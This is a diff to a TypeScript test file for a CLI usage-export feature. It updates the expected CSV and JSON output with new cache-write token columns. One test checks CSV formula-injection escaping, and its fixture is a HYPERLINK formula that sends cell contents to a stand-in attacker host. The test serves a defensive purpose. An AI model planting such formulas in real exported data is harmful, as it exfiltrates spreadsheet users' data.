@@ -259,10 +259,10 @@ t.test('usage export: CSV and JSON with a time range', async t => {
   const lines = r.out.trimEnd().split('\r\n')
   t.equal(lines[0], USAGE_CSV_COLUMNS.join(','))
   t.same(lines[0]!.split(','), ['time', 'keyId', 'organization', 'project', 'model', 'provider', 'traceId', 'idempotencyKey',
-    'inputTokens', 'cachedInputTokens', 'outputTokens', 'cost', 'priceInput', 'priceCachedInput', 'priceOutput', 'estimated', 'priceCacheWrite', 'priceCacheWrite1h'])
+    'inputTokens', 'cachedInputTokens', 'outputTokens', 'cost', 'priceInput', 'priceCachedInput', 'priceOutput', 'estimated', 'priceCacheWrite', 'priceCacheWrite1h', 'cacheWriteTokens', 'cacheWrite1hTokens'])
   t.equal(lines.length, 3, 'header + records at 01:00 and 02:00 (from inclusive, to exclusive)')
-  t.equal(lines[1], '2025-03-01T01:00:00.000Z,k1,acme,,echo/echo-1,echo,tr-1,"idem, ""quoted""",1000,200,50,0.000005,,,,true,,')
-  t.equal(lines[2], '2025-03-01T02:00:00.000Z,k1,acme,web,echo/echo-1,echo,tr-2,,1000,200,50,1.234567,3,0.3,15,false,,')
+  t.equal(lines[1], '2025-03-01T01:00:00.000Z,k1,acme,,echo/echo-1,echo,tr-1,"idem, ""quoted""",1000,200,50,0.000005,,,,true,,,,')
+  t.equal(lines[2], '2025-03-01T02:00:00.000Z,k1,acme,web,echo/echo-1,echo,tr-2,,1000,200,50,1.234567,3,0.3,15,false,,,,')
 
   r = await cli(args, 'usage', 'export')
   t.equal(r.out.trimEnd().split('\r\n').length, 5, 'no range: everything')
@@ -274,7 +274,7 @@ t.test('usage export: CSV and JSON with a time range', async t => {
   t.same(rows[0], {
     time: '2025-03-01T02:00:00.000Z', keyId: 'k1', organization: 'acme', project: 'web', model: 'echo/echo-1', provider: 'echo',
     traceId: 'tr-2', idempotencyKey: null, inputTokens: 1000, cachedInputTokens: 200, outputTokens: 50, cost: '1.234567',
-    price: { input: 3, cachedInput: 0.3, output: 15 }, estimated: false,
+    cacheWriteTokens: null, cacheWrite1hTokens: null, price: { input: 3, cachedInput: 0.3, output: 15 }, estimated: false,
   })
 
   r = await cli(args, 'usage', 'export', '--format', 'json', '--to', '2025-01-01')
@@ -298,7 +298,7 @@ t.test('usage export: client-chosen text that a spreadsheet would run as a formu
   const r = await cli(args, 'usage', 'export')
   t.equal(r.code, 0)
   const lines = r.out.split('\r\n').slice(1, -1)
-  const idemCell = (line: string) => line.split(',tr-')[1]!.replace(/^\d+,/, '').replace(/,10,0,5,0\.000007,,,,false,,$/, '')
+  const idemCell = (line: string) => line.split(',tr-')[1]!.replace(/^\d+,/, '').replace(/,10,0,5,0\.000007,,,,false,,,,$/, '')
   t.equal(idemCell(lines[0]!), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")"`, 'a leading = gets a quote (and CSV quoting)')
   t.equal(idemCell(lines[1]!), "'+1+2")
   t.equal(idemCell(lines[2]!), "'-2+3")
